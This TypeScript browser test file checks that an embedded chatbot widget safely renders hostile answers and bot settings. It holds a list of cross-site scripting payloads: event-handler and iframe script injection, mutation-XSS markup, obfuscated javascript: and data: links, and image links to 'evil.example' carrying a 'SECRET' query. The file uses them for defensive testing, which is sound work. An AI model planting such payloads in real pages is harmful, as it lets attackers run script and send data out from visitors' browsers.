import type { Browser } from 'playwright-core'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { launchBrowser, openPage, type WatchedPage } from '../harness/browser.ts'
import { type CustomerSite, startCustomerSite } from '../harness/customer-site.ts'
import { type ScriptedUpstream, startScriptedUpstream } from '../harness/scripted-upstream.ts'
import { createPublishedBot, type ServerProcess, startServer } from '../harness/server-process.ts'
import { findWidget } from '../harness/widget.ts'
import { toPage } from '../harness/widget-page.ts'

const evil = 'https://evil.example'
const hostile = [
  `<img src=x onerror="window.hit=1"><svg onload="window.hit=2"></svg>`,
  `<iframe srcdoc="<script>parent.hit=3</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=4&gt;">`,
  `[x](javascript:window.hit=5) [y](JaVa\tScRiPt:window.hit=6) [z](data:text/html,<script>window.hit=7</script>)`,
  `[a]: javascript:window.hit=8\n[a] [b](vbscript:x) <javascript:window.hit=9>`,
  `![q](${evil}/?q=SECRET) ![r][pic] <img src="${evil}/html">\n\n[pic]: ${evil}/reference`,
  '```html\n<img src=x onerror="window.hit=10">\n```',
  `| <img src=${evil}/table> | ![c](${evil}/cell) |\n|---|---|\n| [d](javascript:1) | \`<script>\` |`,
  '&#106;avascript:window.hit=11 [e](&#106;avascript:window.hit=12) </script><script>window.hit=13</script>',
].join('\n\n')

let browser: Browser
let site: CustomerSite
let upstream: ScriptedUpstream
let server: ServerProcess
let watched: WatchedPage
beforeAll(async () => {
  upstream = await startScriptedUpstream()
  ;[browser, site, server] = await Promise.all([
    launchBrowser(),
    startCustomerSite(),
    startServer(upstream.environment),
  ])
})
afterEach(() => watched?.context.close())
afterAll(async () => {
  await browser.close()
  await Promise.all([server.stop(), site.stop(), upstream.stop()])
})

async function ask(pieces: string[], botId: string) {
  upstream.answerWith(pieces)
  site.show(toPage({ host: server.url, options: { config: { bot_id: botId } } }))
  watched = await openPage(browser)
  await watched.page.goto(site.url)
  const widget = findWidget(watched.page)
  await widget.open()
  await widget.ask('Show me')
  await widget.waitForText('the end')
  await widget.waitForIdle()
  return widget
}

const foreignRequests = () =>
  watched.requests.filter((url) => ![server.url, site.url, 'data:'].some((own) => url.startsWith(own)))

// proves: hostile.11, hostile.12, hostile.13, hostile.16
test('11-13, 16. hostile answers run nothing and send nothing, whole or one character at a time', async () => {
  const botId = await createPublishedBot(server)
  const text = `${hostile}\n\nthe end`
  for (const pieces of [[text], [...text]]) {
    const widget = await ask(pieces, botId)

    expect(await watched.page.evaluate('window.hit')).toBeUndefined()
    expect(await widget.log.locator('img, iframe, script, svg image, style, math, object').count()).toBe(0)
    const links = await widget.log
      .locator('a')
      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol))
    expect(links.every((protocol) => ['https:', 'http:', 'mailto:', 'tel:'].includes(protocol))).toBe(true)
    expect(foreignRequests()).toEqual([])
    expect(watched.complaints).toEqual([])
    await watched.context.close()
  }
})

// proves: hostile.17
test('17. names, questions and sources that hold markup are shown as words', async () => {
  const label = '<img src=x onerror=window.hit=1>'
  const botId = await createPublishedBot(server, {
    name: '<b>Agent</b>',
    onboarding_info: { prologue: `${label} </script>`, suggested_questions: [label, 'javascript:window.hit=2'] },
    knowledge: { texts: [{ title: label, text: `Show me the end. ${label}`, url: 'javascript:window.hit=3' }] },
  })
  const widget = await ask(['the end'], botId)

  expect(await watched.page.evaluate('window.hit')).toBeUndefined()
  expect(await widget.window.locator('img, script').count()).toBe(0)
  await watched.page.reload()
  await widget.open()
  await widget.window.getByText(label).first().waitFor()
  expect(await watched.page.evaluate('window.hit')).toBeUndefined()
  expect(watched.complaints).toEqual([])
})
